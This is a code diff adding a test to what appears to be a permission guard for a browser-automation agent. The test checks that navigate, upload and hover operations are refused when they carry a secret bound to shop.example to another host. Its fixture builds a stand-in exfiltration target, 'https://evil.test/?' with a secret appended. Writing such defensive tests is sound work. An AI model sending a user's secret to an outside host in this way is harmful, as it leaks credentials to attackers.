@@ -121,3 +121,14 @@ def test_an_address_with_a_secret_in_it_is_refused_by_the_name_of_the_operation(
     refused = permit(operation, None, screen(), Guards(), {})
     assert isinstance(refused, Refused)
     assert (refused.target, refused.because.split("`")[1]) == ("navigate", "word")
+
+
+@pytest.mark.parametrize("kind", [Kind.NAVIGATE, Kind.UPLOAD, Kind.HOVER])
+def test_no_address_and_no_file_carries_it_away_from_where_it_belongs(kind: Kind) -> None:
+    """On its own host too: what is gone to may be anybody's."""
+    shown = screen(field("Password"), address="https://shop.example/")
+    operation = Operation(kind=kind, text=("https://evil.test/?", Secret("word")))
+    guards = Guards(secrets=(Bound(name="word", hosts=("shop.example",)),))
+    refused = permit(operation, None, shown, guards, {})
+    assert isinstance(refused, Refused)
+    assert (refused.rule, refused.liftable) == ("secret", False)
